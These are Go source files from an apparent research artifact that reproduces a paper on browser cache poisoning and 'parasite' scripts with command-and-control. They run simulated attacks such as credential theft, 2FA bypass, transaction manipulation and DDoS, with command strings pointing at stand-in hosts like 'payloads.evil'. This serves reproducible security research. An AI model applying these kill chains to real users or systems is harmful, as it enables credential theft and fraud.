	for _, s := range []artifact.Spec{
		{
			ID: "table1", Title: "Table I: cache eviction on popular browsers",
			Section: "Table I", Seed: 31, Deterministic: true, Run: TableI,
		},
		{
			ID: "table2", Title: "Table II: TCP injection across OS and browsers",
			Section: "Table II", Seed: 17, Deterministic: true, Run: TableII,
		},
		{
			ID: "table3", Title: "Table III: refresh methods vs Cache-API parasites",
			Section: "Table III", Seed: 23, Deterministic: true, Run: TableIII,
		},
		{
			ID: "table4", Title: "Table IV: caches in the wild (taxonomy + shared-cache infection)",
			Section: "Table IV", Deterministic: true, Run: TableIV,
		},
		{
			ID: "table5", Title: "Table V: attacks against applications",
			Section: "Table V", Seed: 47, Deterministic: true, Run: TableV,
		},
		{
			ID: "fig3", Title: "Figure 3: persistency measurement over 100 days",
			Section: "Fig. 3", Deterministic: true, Run: Figure3,
			Params: []artifact.Param{paramSites, paramDays, paramSeed},
		},
		{
			ID: "fig5", Title: "Figure 5 + §V: security header survey",
			Section: "Fig. 5 / §V", Deterministic: true, Run: Figure5,
			Params: []artifact.Param{paramSites, paramSeed},
		},
		{
			ID: "cnc", Title: "§VI-C: covert channel throughput",
			Section: "§VI-C", Run: CNCThroughput, // wall-clock rates: not deterministic
			Params: []artifact.Param{paramPayload},
		},
		{
			ID: "flows", Title: "Figures 1/2/4: message flows",
			Section: "Fig. 1/2/4", Seed: 77, Deterministic: true, Run: MessageFlows,
		},
		{
			ID: "countermeasures", Title: "§VIII: countermeasures vs the kill chain",
			Section: "§VIII", Seed: 61, Deterministic: true, Run: Countermeasures,
		},
		{
			ID: "replay", Title: "Record/replay fingerprint stability",
			Section: "infra", Seed: 97, Deterministic: true, Run: ReplayStability,
		},
		{
			ID: "conditions", Title: "Kill chain vs network conditions (fault-injection matrix)",
			Section: "robustness", Seed: conditionsSeed, Deterministic: true, Run: Conditions,
			Params: []artifact.Param{paramAttempts, paramPayload},
		},
		{
			ID: "fleet/infection-curve", Title: "Fleet: infected population vs virtual time",
			Section: "scale", Seed: fleetSeed, Deterministic: true, Run: InfectionCurve,
			Params: []artifact.Param{paramLANs, paramBots},
		},
		{
			ID: "fleet/cnc-fanout", Title: "Fleet: C&C fan-out goodput and latency vs fleet size",
			Section: "scale", Seed: fleetSeed, Deterministic: true, Run: CNCFanout,
			Params: []artifact.Param{paramLANs, paramBots},
		},
	} {
		artifact.MustRegister(s)
	}
}
