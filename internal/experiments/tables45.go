package experiments

import (
	"fmt"
	"strings"

	"masterparasite/internal/apps"
	"masterparasite/internal/artifact"
	"masterparasite/internal/attacker"
	"masterparasite/internal/attacks"
	"masterparasite/internal/browser"
	"masterparasite/internal/core"
	"masterparasite/internal/dom"
	"masterparasite/internal/parasite"
	"masterparasite/internal/proxycache"
	"masterparasite/internal/runner"
)

// tableIVClients is the number of distinct clients behind each shared
// cache in the functional infection run.
const tableIVClients = 8

// TableIVRow is one cache-device row with its functional verification.
type TableIVRow struct {
	Device        proxycache.Device `json:"device"`
	VictimsServed int               `json:"victims_served"` // shared-cache infection outcome (-1 = not applicable)
}

// TableIVData is the Table IV dataset.
type TableIVData []TableIVRow

// Table flattens the dataset for the CSV and Markdown renderers.
func (d TableIVData) Table() (header []string, rows [][]string) {
	header = []string{"location", "type", "instance", "http", "https", "victims_served", "comment"}
	for _, r := range d {
		served := "n/a"
		if r.VictimsServed >= 0 {
			served = fmt.Sprintf("%d/%d", r.VictimsServed, tableIVClients)
		}
		rows = append(rows, []string{r.Device.Location, r.Device.Type, r.Device.Instance,
			r.Device.HTTP.Symbol(), r.Device.HTTPS.Symbol(), served, r.Device.Comment})
	}
	return header, rows
}

// TableIV reproduces the caches-in-the-wild evaluation: the device
// taxonomy plus, for every shared HTTP-capable device, a functional
// infection run showing that one poisoned entry reaches every client.
// Every device is one independent job with its own cache instance.
func TableIV(env artifact.Env) (*artifact.Result, error) {
	rows, err := runner.Map(env.Runner, proxycache.Devices(), func(_ int, d proxycache.Device) (TableIVRow, error) {
		row := TableIVRow{Device: d, VictimsServed: -1}
		if d.Shared && d.HTTP.Vulnerable() {
			cache := proxycache.NewSharedCache(d.Instance, 1<<20, false, nil)
			res := proxycache.RunInfection(cache, infectedJS(), tableIVClients)
			row.VictimsServed = res.VictimsServed
		}
		return row, nil
	})
	if err != nil {
		return nil, err
	}
	var b strings.Builder
	fmt.Fprintf(&b, "%-42s %-28s %-5s %-6s %-10s %s\n", "Location/Type", "Instance", "HTTP", "HTTPS", "Infected", "Comment")
	lastLoc := ""
	for _, r := range rows {
		d := r.Device
		loc := d.Location + " / " + d.Type
		if d.Location != lastLoc {
			lastLoc = d.Location
		}
		infected := "n/a"
		if r.VictimsServed >= 0 {
			infected = fmt.Sprintf("%d/%d", r.VictimsServed, tableIVClients)
		}
		fmt.Fprintf(&b, "%-42.42s %-28s %-5s %-6s %-10s %s\n",
			loc, d.Instance, d.HTTP.Symbol(), d.HTTPS.Symbol(), infected, d.Comment)
	}
	return &artifact.Result{Text: b.String(), Dataset: TableIVData(rows)}, nil
}

// TableVRow is one attack row with its run outcome. The catalogue
// fields are flattened to plain strings so the dataset is
// JSON-marshalable (the attack's executable Module never belongs in an
// artifact).
type TableVRow struct {
	CIA          string `json:"cia"`
	Attack       string `json:"attack"`
	Category     string `json:"category"`
	App          string `json:"app"`
	Succeeded    bool   `json:"succeeded"`
	Evidence     string `json:"evidence"`
	Requirements string `json:"requirements"`
}

// TableVData is the Table V dataset.
type TableVData []TableVRow

// Table flattens the dataset for the CSV and Markdown renderers.
func (d TableVData) Table() (header []string, rows [][]string) {
	header = []string{"cia", "attack", "category", "app", "succeeded", "evidence", "requirements"}
	for _, r := range d {
		rows = append(rows, []string{r.CIA, r.Attack, r.Category, r.App,
			fbool(r.Succeeded), r.Evidence, r.Requirements})
	}
	return header, rows
}

// tableVRun describes one catalogued attack execution.
type tableVRun struct {
	attack string
	app    string // which app hosts the run
	params string
	stream string // exfil stream proving success ("" = DOM evidence)
	setup  string // extra setup keyword
}

// TableV reproduces the attacks-against-applications evaluation: every
// catalogued module runs through an infected parasite against its target
// application, and the row records whether the master received the
// expected loot. Every attack is one independent scenario job.
func TableV(env artifact.Env) (*artifact.Result, error) {
	runs := []tableVRun{
		{"steal-login", "bank", "", "creds", "submit-login"},
		{"browser-data", "chat", "", "browser-data", "seed-storage"},
		{"personal-data", "chat", "microphone", "sensor-microphone", "grant-permission"},
		{"website-data", "bank", "", "website-data", "logged-in"},
		{"side-channel", "chat", "recv", "side-channel", "side-send"},
		{"bypass-2fa", "bank", "Transfer 50 EUR to DE22 GRANDMA", "", "pending-transfer"},
		{"transaction-manipulation", "bank", "iban=XX99 EVIL,amount=9000", "manipulated-tx", "logged-in-transfer"},
		{"send-phishing", "chat", "click evil.example", "phished", ""},
		{"steal-compute", "chat", "256", "mined", ""},
		{"clickjacking", "chat", "bait.example/", "", ""},
		{"ad-injection", "chat", "ads.evil/banner.png", "", ""},
		{"ddos", "chat", "victim-site.example|10", "ddos-report", "ddos-target"},
		{"spectre", "chat", "", "spectre", "plant-secret"},
		{"rowhammer", "chat", "4096", "rowhammer", "vulnerable-dram"},
		{"zero-day", "chat", "payloads.evil/cve.bin", "zero-day", "payload-host"},
		{"attack-internal", "chat", "router.local,printer.local", "internal-hosts", "internal-devices"},
		{"ddos-internal", "chat", "iot-cam.local|10", "internal-ddos-report", "internal-devices"},
	}
	rows, err := runner.Map(env.Runner, runs, func(_ int, run tableVRun) (TableVRow, error) {
		atk, ok := attacks.ByName(run.attack)
		if !ok {
			return TableVRow{}, fmt.Errorf("table V: unknown attack %q", run.attack)
		}
		succeeded, evidence, err := runTableVAttack(run.attack, run.app, run.params, run.stream, run.setup)
		if err != nil {
			return TableVRow{}, fmt.Errorf("table V %s: %w", run.attack, err)
		}
		return TableVRow{
			CIA: atk.CIA.String(), Attack: atk.Name, Category: string(atk.Category),
			App: run.app, Succeeded: succeeded,
			Evidence: evidence, Requirements: atk.Requirements,
		}, nil
	})
	if err != nil {
		return nil, err
	}
	var b strings.Builder
	fmt.Fprintf(&b, "%-4s %-26s %-16s %-8s %-7s %s\n", "CIA", "Attack", "Category", "App", "Result", "Evidence")
	for _, r := range rows {
		fmt.Fprintf(&b, "%-4s %-26s %-16s %-8s %-7s %.60s\n",
			r.CIA, r.Attack, r.Category, r.App, mark(r.Succeeded), r.Evidence)
	}
	return &artifact.Result{Text: b.String(), Dataset: TableVData(rows)}, nil
}

// runTableVAttack assembles a fresh lab and executes one catalogue row.
func runTableVAttack(attack, app, params, stream, setup string) (bool, string, error) {
	s, err := core.NewScenario(core.Config{Seed: 47})
	if err != nil {
		return false, "", err
	}
	bank := apps.NewBank("bank.example")
	chat := apps.NewChat("chat.example")
	s.AddHandler(bank.Host, bank.Handler())
	s.AddHandler(chat.Host, chat.Handler())

	cfg := parasite.NewConfig("tv", "bot-tv", core.MasterHost)
	cfg.Propagate = false
	attacks.Install(cfg)
	s.Registry.Add(cfg)
	for host, path := range map[string]string{bank.Host: "/js/bank.js", chat.Host: "/js/chat.js"} {
		s.Master.AddTarget(attacker.Target{
			Name: host + path, Kind: attacker.KindJS,
			ParasitePayload: "tv", Original: []byte("function app(){}"),
		})
	}

	host := chat.Host
	if app == "bank" {
		host = bank.Host
	}
	wire := func(p *browser.Page) {
		bank.Wire(p, nil)
		chat.Wire(p, nil)
	}
	submitAs := func(p *browser.Page, formID string, values map[string]string) error {
		form := p.Doc.FindByID(formID)
		if form == nil {
			return fmt.Errorf("form %s missing", formID)
		}
		for k, v := range values {
			if !setFormValue(p, formID, k, v) {
				return fmt.Errorf("input %s missing on %s", k, formID)
			}
		}
		_, _, err := p.Doc.Submit(formID)
		return err
	}

	// Environment setup per run.
	switch setup {
	case "seed-storage":
		s.Victim.LocalStorage(host)["jwt"] = "token-1"
		s.Victim.Cookies().Set(host, "theme", "dark")
	case "grant-permission":
		s.Victim.LocalStorage(host)["perm:microphone"] = "granted"
	case "plant-secret":
		s.Victim.LocalStorage(host)["spectre-secret"] = "0xdeadbeef"
	case "vulnerable-dram":
		s.Victim.LocalStorage(host)["dram"] = "vulnerable"
	case "ddos-target":
		s.AddPage("victim-site.example", "/", "<html><body>up</body></html>",
			map[string]string{"Cache-Control": "no-store"})
	case "payload-host":
		s.AddPage("payloads.evil", "/cve.bin", strings.Repeat("\x90", 32),
			map[string]string{"Cache-Control": "no-store", "Access-Control-Allow-Origin": "*"})
	case "internal-devices":
		s.AddPage("router.local", "/favicon.ico", "icon", nil)
		s.AddPage("printer.local", "/favicon.ico", "icon", nil)
		s.AddPage("iot-cam.local", "/", "cam", map[string]string{"Cache-Control": "no-store"})
	case "side-send":
		s.CNC.QueueCommand("bot-tv", []byte("side-channel|send"))
		if _, err := s.VisitWired(host, "/", wire); err != nil {
			return false, "", err
		}
	case "logged-in", "submit-login", "logged-in-transfer", "pending-transfer":
		// handled below after the first page load
	}

	// Login flows for the bank runs.
	needLogin := setup == "logged-in" || setup == "logged-in-transfer" || setup == "pending-transfer"
	if needLogin {
		page, err := s.VisitWired(bank.Host, "/", wire)
		if err != nil {
			return false, "", err
		}
		if err := submitAs(page, "login", map[string]string{"user": "alice", "pass": "hunter2"}); err != nil {
			return false, "", err
		}
		s.Run()
	}
	if setup == "pending-transfer" {
		// Stage the attacker's pending transfer via the manipulation
		// module, then evaluate bypass-2fa on the confirmation page.
		s.CNC.QueueCommand("bot-tv", []byte("transaction-manipulation|iban=XX99 EVIL,amount=9000"))
		page, err := s.VisitWired(bank.Host, "/", wire)
		if err != nil {
			return false, "", err
		}
		if err := submitAs(page, "transfer", map[string]string{"iban": "DE22 GRANDMA", "amount": "50"}); err != nil {
			return false, "", err
		}
		s.Run()
	}

	// The command under test.
	s.CNC.QueueCommand("bot-tv", []byte(attack+"|"+params))
	path := "/"
	if setup == "pending-transfer" {
		path = "/confirm"
	}
	page, err := s.VisitWired(host, path, wire)
	if err != nil {
		return false, "", err
	}

	// Post-load user interaction where the attack needs one.
	switch setup {
	case "submit-login":
		if err := submitAs(page, "login", map[string]string{"user": "alice", "pass": "hunter2"}); err != nil {
			return false, "", err
		}
		s.Run()
	case "logged-in-transfer":
		if err := submitAs(page, "transfer", map[string]string{"iban": "DE22 GRANDMA", "amount": "50"}); err != nil {
			return false, "", err
		}
		s.Run()
	}

	// Evidence: exfil stream, or DOM artefact for the display attacks.
	if stream != "" {
		loot, ok := s.CNC.Upload("bot-tv", stream)
		if !ok {
			return false, "no loot", nil
		}
		return true, fmt.Sprintf("stream %s: %.48s", stream, string(loot)), nil
	}
	switch attack {
	case "clickjacking":
		if page.Doc.FindByID("cj-overlay") != nil {
			return true, "invisible overlay planted", nil
		}
	case "bypass-2fa":
		if el := page.Doc.FindByID("pending-details"); el != nil &&
			strings.Contains(el.TextContent(), "GRANDMA") {
			return true, "user shown forged transaction details", nil
		}
	case "ad-injection":
		for _, img := range page.Doc.FindByTag("img") {
			if img.Attr("src") == params {
				return true, "ad element injected", nil
			}
		}
	}
	return false, "no evidence", nil
}

func setFormValue(p *browser.Page, formID, name, value string) bool {
	form := p.Doc.FindByID(formID)
	if form == nil {
		return false
	}
	ok := false
	form.Walk(func(e *dom.Element) {
		if (e.Tag == "input" || e.Tag == "textarea") && e.Attr("name") == name {
			e.SetAttr("value", value)
			ok = true
		}
	})
	return ok
}
