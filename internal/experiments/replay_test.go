package experiments

import (
	"bytes"
	"testing"

	"masterparasite/internal/artifact"
	"masterparasite/internal/netsim"
	"masterparasite/internal/replay"
	"masterparasite/internal/runner"
)

// recordKillChain captures one kill-chain run for a seed.
func recordKillChain(t *testing.T, opts KillChainOpts) *replay.Recorder {
	t.Helper()
	rec := replay.NewRecorder(nil)
	if err := RunKillChain(opts, rec, nil); err != nil {
		t.Fatal(err)
	}
	if rec.Count() == 0 {
		t.Fatal("kill chain recorded no events")
	}
	return rec
}

// renderReplay renders the replay artifact with the given worker count.
func renderReplay(t *testing.T, workers int) (string, []byte) {
	t.Helper()
	spec, ok := artifact.Get("replay")
	if !ok {
		t.Fatal("replay artifact not registered")
	}
	renderer, err := artifact.RendererFor("text")
	if err != nil {
		t.Fatal(err)
	}
	res, rendered, err := artifact.RunRendered(spec, runner.New(workers), nil, renderer)
	if err != nil {
		t.Fatal(err)
	}
	data, ok := res.Dataset.(ReplayData)
	if !ok || len(data) == 0 {
		t.Fatalf("replay artifact dataset = %T", res.Dataset)
	}
	for _, row := range data {
		if !row.DriveOK || !row.CompressedOK || !row.RerunOK {
			t.Errorf("seed %d verdicts: drive=%v compressed=%v rerun=%v",
				row.Seed, row.DriveOK, row.CompressedOK, row.RerunOK)
		}
		if len(row.Fingerprint) != 64 {
			t.Errorf("seed %d: fingerprint %q is not a SHA-256 hex digest", row.Seed, row.Fingerprint)
		}
	}
	return data[0].Fingerprint, rendered
}

// TestReplayFingerprintStableAcrossWorkers asserts the PR's headline
// guarantee: a recorded run's divergence fingerprint — and the whole
// rendered replay artifact around it — is byte-identical whether the
// fleet runs on 1, 4, or 8 workers.
func TestReplayFingerprintStableAcrossWorkers(t *testing.T) {
	if testing.Short() {
		t.Skip("records the kill chain 12 times per worker count; run without -short")
	}
	fp1, out1 := renderReplay(t, 1)
	for _, workers := range []int{4, 8} {
		fp, out := renderReplay(t, workers)
		if fp != fp1 {
			t.Errorf("workers=%d: fingerprint %.16s, sequential %.16s", workers, fp, fp1)
		}
		if string(out) != string(out1) {
			t.Errorf("workers=%d: rendered artifact differs from sequential run", workers)
		}
	}
}

// TestReplayDivergenceExactIndex injects the canonical perturbation (a
// slower server) and asserts the live checker reports the divergence at
// exactly the index an offline log-vs-log Diff computes — and that an
// unperturbed re-run reports none at all.
func TestReplayDivergenceExactIndex(t *testing.T) {
	const seed = 97
	base := recordKillChain(t, KillChainOpts{Seed: seed})

	// Unperturbed live re-run: checker stays clean.
	chk := replay.NewChecker(base.Events())
	if err := RunKillChain(KillChainOpts{Seed: seed}, nil, chk); err != nil {
		t.Fatal(err)
	}
	if d := chk.Finish(); d != nil {
		t.Fatalf("identical re-run diverged:\n%s", d)
	}

	// Perturbed live re-run, checked as it happens.
	chk = replay.NewChecker(base.Events())
	if err := RunKillChain(KillChainOpts{Seed: seed, ServerDelay: perturbDelay}, nil, chk); err != nil {
		t.Fatal(err)
	}
	live := chk.Finish()
	if live == nil {
		t.Fatal("perturbed re-run did not diverge")
	}

	// Offline ground truth: record the perturbed run and Diff the logs.
	pert := recordKillChain(t, KillChainOpts{Seed: seed, ServerDelay: perturbDelay})
	offline := replay.Diff(base.Events(), pert.Events())
	if offline == nil {
		t.Fatal("offline diff found no divergence")
	}
	if live.Index != offline.Index {
		t.Fatalf("live checker diverged at #%d, offline diff at #%d", live.Index, offline.Index)
	}
	// Everything before the divergence is identical by construction; the
	// event at the index must show the timing change in its field diff.
	if live.Recorded == nil || live.Live == nil {
		t.Fatalf("divergence lacks a before/after pair:\n%s", live)
	}
	found := false
	for _, f := range live.ChangedFields() {
		if len(f) >= 4 && f[:4] == "time" {
			found = true
		}
	}
	if !found {
		t.Errorf("divergence does not attribute the change to timing:\n%s", live)
	}
}

// TestReplayCapturesLinkFaults is the fault-injection regression test:
// re-running a recorded kill chain under a lossy, duplicating
// LinkProfile must surface the faults as KindDrop and KindDup events in
// the MPRL log, change the divergence fingerprint, and make the live
// checker pin the first faulted event at exactly the offline Diff
// index. The faulted log must also survive a write/ReadLog round trip.
func TestReplayCapturesLinkFaults(t *testing.T) {
	const seed = 97
	base := recordKillChain(t, KillChainOpts{Seed: seed})
	if base.CountKind(replay.KindDup) != 0 {
		t.Fatal("clean-wire recording contains duplicate deliveries")
	}

	lossy := netsim.LinkProfile{Name: "regress", Loss: 0.15, Duplicate: 0.2, Seed: 7}
	var buf bytes.Buffer
	rec := replay.NewRecorder(&buf)
	chk := replay.NewChecker(base.Events())
	if err := RunKillChain(KillChainOpts{Seed: seed, Link: &lossy}, rec, chk); err != nil {
		t.Fatal(err)
	}
	if got := rec.CountKind(replay.KindDrop); got == 0 {
		t.Error("no loss-induced drops recorded at 15% loss")
	}
	if got := rec.CountKind(replay.KindDup); got == 0 {
		t.Error("no duplicate deliveries recorded at 20% duplication")
	}
	if rec.Fingerprint() == base.Fingerprint() {
		t.Error("fingerprint unchanged despite link faults")
	}

	live := chk.Finish()
	if live == nil {
		t.Fatal("checker saw no divergence against the clean recording")
	}
	offline := replay.Diff(base.Events(), rec.Events())
	if offline == nil {
		t.Fatal("offline diff found no divergence")
	}
	if live.Index != offline.Index {
		t.Errorf("live checker pinned event #%d, offline diff #%d", live.Index, offline.Index)
	}

	// The streamed log round-trips: same events, same fingerprint.
	events, err := replay.ReadLog(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(events) != rec.Count() {
		t.Fatalf("round trip lost events: %d read, %d recorded", len(events), rec.Count())
	}
	if fp := replay.FingerprintEvents(events); fp != rec.Fingerprint() {
		t.Errorf("round-trip fingerprint %.16s != recorded %.16s", fp, rec.Fingerprint())
	}
}
