package experiments

import (
	"fmt"
	"strconv"
	"strings"
	"time"

	"masterparasite/internal/artifact"
	"masterparasite/internal/attacker"
	"masterparasite/internal/core"
	"masterparasite/internal/netsim"
	"masterparasite/internal/parasite"
	"masterparasite/internal/replay"
	"masterparasite/internal/runner"
)

// KillChainOpts parameterize one scripted kill-chain run for capture or
// re-execution.
type KillChainOpts struct {
	// Seed drives every pseudo-random choice in the scenario.
	Seed int64
	// ServerDelay overrides the web/attacker server response delay
	// (0 keeps the scenario default). It is the canonical perturbation
	// knob: re-running a recorded capture with a different delay shifts
	// the wire schedule and the checker pins the first shifted event.
	ServerDelay time.Duration
	// Link installs a network fault profile on the scenario's WiFi
	// segment and enables tcpsim retransmission so the kill chain
	// survives it. nil keeps the historical perfect wire (and the
	// historical wire bytes). A lossy Link is the second perturbation
	// knob: drops and duplicate deliveries appear in the recorded log
	// and change the divergence fingerprint.
	Link *netsim.LinkProfile
}

// RunKillChain executes the full scripted kill chain — cache eviction,
// cache infection + propagation, then C&C from the home network — with
// the replay tap attached. Every wire event and C&C exchange is fed to
// rec and/or chk (either may be nil). This is the same sequence the
// "flows" artifact traces; here it is the canonical record/replay
// workload.
func RunKillChain(opts KillChainOpts, rec *replay.Recorder, chk *replay.Checker) error {
	scfg := core.Config{Seed: opts.Seed, ServerDelay: opts.ServerDelay}
	if opts.Link != nil {
		scfg.Link = opts.Link
		scfg.Retransmit = true
	}
	s, err := core.NewScenario(scfg)
	if err != nil {
		return err
	}
	s.AttachReplay(rec, chk)

	s.AddPage("somesite.com", "/", `<html><body><script src="/my.js"></script></body></html>`,
		map[string]string{"Cache-Control": "no-store"})
	s.AddPage("somesite.com", "/my.js", "function site(){}",
		map[string]string{"Cache-Control": "max-age=600"})
	s.AddPage("top1.com", "/", `<html><body><script src="/persistent.js"></script></body></html>`, nil)
	s.AddPage("top1.com", "/persistent.js", "function lib(){}",
		map[string]string{"Cache-Control": "max-age=600"})
	s.AddPage("any.com", "/", "<html><body>x</body></html>", map[string]string{"Cache-Control": "no-store"})

	cfg := parasite.NewConfig("replay", "bot-replay", core.MasterHost)
	cfg.PropagationTargets = []string{"top1.com"}
	s.Registry.Add(cfg)
	for _, name := range []string{"somesite.com/my.js", "top1.com/persistent.js"} {
		s.Master.AddTarget(attacker.Target{Name: name, Kind: attacker.KindJS,
			ParasitePayload: "replay", Original: []byte("function original(){}")})
	}
	s.Master.EnableEviction(core.JunkHost, 4, 1024, "any.com")

	if _, err := s.Visit("any.com", "/"); err != nil {
		return fmt.Errorf("eviction phase: %w", err)
	}
	if _, err := s.Visit("somesite.com", "/"); err != nil {
		return fmt.Errorf("infection phase: %w", err)
	}
	s.LeaveAttackerNetwork()
	s.CNC.QueueCommand("bot-replay", []byte("noop|"))
	if _, err := s.Visit("top1.com", "/"); err != nil {
		return fmt.Errorf("c&c phase: %w", err)
	}
	return nil
}

// replayRow is one seed's record/replay verdict.
type replayRow struct {
	Seed         int64  `json:"seed"`
	Events       int    `json:"events"`
	Sends        int    `json:"sends"`
	CNC          int    `json:"cnc_exchanges"`
	Fingerprint  string `json:"fingerprint"`
	DriveOK      bool   `json:"drive_ok"`
	CompressedOK bool   `json:"compressed_ok"`
	RerunOK      bool   `json:"rerun_ok"`
	PerturbIndex int    `json:"perturb_index"`
	PerturbField string `json:"perturb_field"`
}

// ReplayData is the "replay" artifact dataset.
type ReplayData []replayRow

// Table flattens the dataset for the CSV and Markdown renderers.
func (d ReplayData) Table() (header []string, rows [][]string) {
	header = []string{"seed", "events", "sends", "cnc", "fingerprint",
		"drive_ok", "compressed_ok", "rerun_ok", "perturb_index", "perturb_field"}
	for _, r := range d {
		rows = append(rows, []string{
			strconv.FormatInt(r.Seed, 10), fint(r.Events), fint(r.Sends), fint(r.CNC),
			r.Fingerprint, strconv.FormatBool(r.DriveOK), strconv.FormatBool(r.CompressedOK),
			strconv.FormatBool(r.RerunOK), fint(r.PerturbIndex), r.PerturbField,
		})
	}
	return header, rows
}

// perturbDelay is the ServerDelay override used for the deliberate
// divergence: the scenario default is 12 ms, so 15 ms shifts every
// server response and the checker must pin the first shifted event.
const perturbDelay = 15 * time.Millisecond

// ReplayStability is the record/replay verification artifact. For each
// seed it records a full kill-chain run, then requires four verdicts:
// the stub-driven replay reproduces the send-level fingerprint exactly,
// the 8× time-compressed replay still matches, a live re-run checks
// clean against the recording, and a deliberately perturbed re-run
// (slower server) diverges — at an exact, stable event index. The
// rendered rows carry the full fingerprints, so they join the run
// manifest's SHA-256 guarantee: any nondeterminism anywhere in the
// simulation stack breaks this artifact byte-for-byte.
func ReplayStability(env artifact.Env) (*artifact.Result, error) {
	seeds := []int64{97, 271, 997}
	rows, err := runner.Map(env.Runner, seeds, func(_ int, seed int64) (replayRow, error) {
		// Record.
		rec := replay.NewRecorder(nil)
		if err := RunKillChain(KillChainOpts{Seed: seed}, rec, nil); err != nil {
			return replayRow{}, err
		}
		row := replayRow{
			Seed:        seed,
			Events:      rec.Count(),
			Sends:       rec.CountKind(replay.KindSend),
			CNC:         rec.CountKind(replay.KindCNC),
			Fingerprint: rec.Fingerprint(),
		}

		// Stub-driven replay: byte-identical send-level stream.
		rp := replay.NewReplayer(rec.Events())
		res, err := rp.Drive(replay.DriveOptions{})
		if err != nil {
			return replayRow{}, err
		}
		row.DriveOK = res.Divergence == nil && res.Fingerprint == res.WantFingerprint

		// 8× time compression preserves the verdict.
		comp, err := rp.Drive(replay.DriveOptions{TimeDiv: 8})
		if err != nil {
			return replayRow{}, err
		}
		row.CompressedOK = comp.Divergence == nil

		// Live re-run checks clean against the recording.
		chk := replay.NewChecker(rec.Events())
		if err := RunKillChain(KillChainOpts{Seed: seed}, nil, chk); err != nil {
			return replayRow{}, err
		}
		row.RerunOK = chk.Finish() == nil

		// Perturbed re-run must diverge at an exact index.
		chk = replay.NewChecker(rec.Events())
		if err := RunKillChain(KillChainOpts{Seed: seed, ServerDelay: perturbDelay}, nil, chk); err != nil {
			return replayRow{}, err
		}
		div := chk.Finish()
		if div == nil {
			return replayRow{}, fmt.Errorf("seed %d: perturbed run did not diverge", seed)
		}
		row.PerturbIndex = div.Index
		if fields := div.ChangedFields(); len(fields) > 0 {
			row.PerturbField = fields[0]
		}
		return row, nil
	})
	if err != nil {
		return nil, err
	}

	var b strings.Builder
	fmt.Fprintf(&b, "record/replay fingerprint stability, %d seeds\n\n", len(rows))
	for _, r := range rows {
		fmt.Fprintf(&b, "seed %-4d  %4d events (%d sends, %d C&C)  fingerprint %s…\n",
			r.Seed, r.Events, r.Sends, r.CNC, r.Fingerprint[:16])
		fmt.Fprintf(&b, "  replay drive: %s   8x compressed: %s   live rerun: %s\n",
			pass(r.DriveOK), pass(r.CompressedOK), pass(r.RerunOK))
		fmt.Fprintf(&b, "  perturbed rerun (server %v vs default): diverges at event #%d (%s)\n",
			perturbDelay, r.PerturbIndex, r.PerturbField)
	}
	fmt.Fprintf(&b, "\nfingerprints are SHA-256 over the canonical wire-event stream; identical\n")
	fmt.Fprintf(&b, "runs reproduce them bit-for-bit at any worker count (see determinism tests)\n")
	return &artifact.Result{Text: b.String(), Dataset: ReplayData(rows)}, nil
}

func pass(ok bool) string {
	if ok {
		return "ok"
	}
	return "FAIL"
}
