package experiments

import (
	"bytes"
	"errors"
	"fmt"
	"strconv"
	"strings"
	"time"

	"masterparasite/internal/artifact"
	"masterparasite/internal/attacker"
	"masterparasite/internal/browser"
	"masterparasite/internal/cnc"
	"masterparasite/internal/core"
	"masterparasite/internal/httpsim"
	"masterparasite/internal/netsim"
	"masterparasite/internal/parasite"
	"masterparasite/internal/runner"
	"masterparasite/internal/script"
	"masterparasite/internal/tcpsim"
)

// conditionsSeed is the base seed of the degradation matrix; every cell
// derives its scenario seed from it via runner.Seed so the grid is a
// pure function of (profile name, cell, attempt).
const conditionsSeed = 131

// ConditionsRow is one link profile's kill-chain degradation outcome.
type ConditionsRow struct {
	Profile       string  `json:"profile"`
	LossPct       float64 `json:"loss_pct"`
	JitterMs      float64 `json:"jitter_ms"`
	BandwidthKBs  int64   `json:"bandwidth_kbs"` // 0 = unlimited
	InjectionWins int     `json:"injection_wins"`
	Attempts      int     `json:"attempts"`
	Evicted       bool    `json:"evicted"`
	GoodputKBs    float64 `json:"goodput_kbs"` // 0 = transfer failed
	LinkLost      int     `json:"link_lost"`
	LinkDup       int     `json:"link_duplicated"`
	ChurnSurvived bool    `json:"churn_survived"`
}

// ConditionsData is the "conditions" artifact dataset.
type ConditionsData []ConditionsRow

// Table flattens the dataset for the CSV and Markdown renderers.
func (d ConditionsData) Table() (header []string, rows [][]string) {
	header = []string{"profile", "loss_pct", "jitter_ms", "bandwidth_kbs",
		"injection_wins", "attempts", "evicted", "goodput_kbs", "link_lost",
		"link_duplicated", "churn_survived"}
	for _, r := range d {
		rows = append(rows, []string{
			r.Profile,
			strconv.FormatFloat(r.LossPct, 'f', 1, 64),
			strconv.FormatFloat(r.JitterMs, 'f', 1, 64),
			strconv.FormatInt(r.BandwidthKBs, 10),
			fint(r.InjectionWins), fint(r.Attempts), fbool(r.Evicted),
			strconv.FormatFloat(r.GoodputKBs, 'f', 1, 64),
			fint(r.LinkLost), fint(r.LinkDup), fbool(r.ChurnSurvived),
		})
	}
	return header, rows
}

// Conditions sweeps the full kill chain across the preset link-profile
// grid: for each profile it measures the injection-race win rate over
// several seeds, eviction-flood reliability, covert-channel goodput in
// virtual time, and parasite persistence under victim churn — all with
// tcpsim retransmission carrying the attack over the faulty wire. One
// runner job per profile; every fault is drawn from the per-link seeded
// PRNG, so the matrix is byte-identical at any worker count.
func Conditions(env artifact.Env) (*artifact.Result, error) {
	attempts := env.Param("attempts")
	payload := env.Param("payload")
	rows, err := runner.Map(env.Runner, netsim.Profiles(), func(_ int, lp netsim.LinkProfile) (ConditionsRow, error) {
		return conditionsRow(lp, attempts, payload)
	})
	if err != nil {
		return nil, err
	}
	var b strings.Builder
	fmt.Fprintf(&b, "kill chain vs network conditions (attempts=%d, payload=%dB, retransmission on)\n\n", attempts, payload)
	fmt.Fprintf(&b, "%-17s %-6s %-7s %-9s %-7s %-6s %-13s %-9s %s\n",
		"profile", "loss", "jitter", "bw", "inject", "evict", "goodput", "lost/dup", "churn")
	for _, r := range rows {
		bw := "-"
		if r.BandwidthKBs > 0 {
			bw = fmt.Sprintf("%dKB/s", r.BandwidthKBs)
		}
		goodput := "failed"
		if r.GoodputKBs > 0 {
			goodput = fmt.Sprintf("%.1f KB/s", r.GoodputKBs)
		}
		fmt.Fprintf(&b, "%-17s %-6s %-7s %-9s %-7s %-6s %-13s %-9s %s\n",
			r.Profile,
			fmt.Sprintf("%.0f%%", r.LossPct),
			fmt.Sprintf("%.0fms", r.JitterMs),
			bw,
